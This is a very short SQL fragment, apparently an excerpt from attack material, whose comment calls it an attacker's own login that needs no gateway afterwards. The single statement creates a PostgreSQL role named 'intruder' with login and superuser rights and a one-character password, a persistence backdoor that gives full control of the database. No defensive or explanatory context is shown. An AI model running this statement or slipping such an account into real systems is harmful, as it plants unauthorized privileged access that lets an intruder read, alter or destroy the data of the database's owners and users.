-- A login of the attacker's own, which needs no gateway afterwards.
CREATE ROLE intruder LOGIN SUPERUSER PASSWORD 'x'
